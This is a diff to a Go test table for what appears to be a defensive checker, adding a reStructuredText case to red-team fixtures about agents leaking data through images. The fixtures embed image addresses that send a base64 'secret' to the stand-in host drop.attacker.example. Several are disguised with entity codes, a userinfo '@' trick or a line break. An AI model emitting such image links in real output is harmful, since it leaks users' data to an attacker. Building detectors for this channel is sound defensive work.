@@ -88,6 +88,7 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 		{"an image inside an element read as text", contained, nil, map[string]string{"x.md": "<p><xmp><img src=\"" + leak + "\"></xmp></p>\n"}, "x.md (an image from drop.attacker.example)"},
 		{"a mermaid label's image spelt with Mermaid's entity codes", contained, nil, map[string]string{"d.md": "```mermaid\ngraph LR\n  A[\"<img src='https#58;#47;#47;drop.attacker.example#47;c2VjcmV0'>\"]\n```\n"}, "d.md (an image from drop.attacker.example)"},
 		{"character references in AsciiDoc and Textile addresses", contained, nil, map[string]string{"c.adoc": "image::https&#58;//drop.attacker.example/c2VjcmV0[]\n", "t.textile": "!https&#58;&#47;&#47;drop.attacker.example/t!\n"}, "c.adoc (an image from drop.attacker.example)"},
+		{"a reStructuredText image address over two lines", contained, nil, map[string]string{"docs/i.rst": ".. image:: https://img.shields.io\n   @drop.attacker.example/c2VjcmV0\n   :alt: build\n"}, "docs/i.rst (an image from drop.attacker.example)"},
 		{"an allowed host", contained, nil, map[string]string{"README.md": "![ci](https://img.shields.io/badge/x-y-green)\n"}, ""},
 		{"GitHub's own", contained, nil, map[string]string{"README.md": "![a](https://github.com/o/r/actions/workflows/ci.yml/badge.svg) ![b](https://raw.githubusercontent.com/o/r/main/a.png)\n"}, ""},
 		{"an image the file had already", contained, map[string]string{"README.md": "![logo](https://cdn.example/logo.png)\n"},
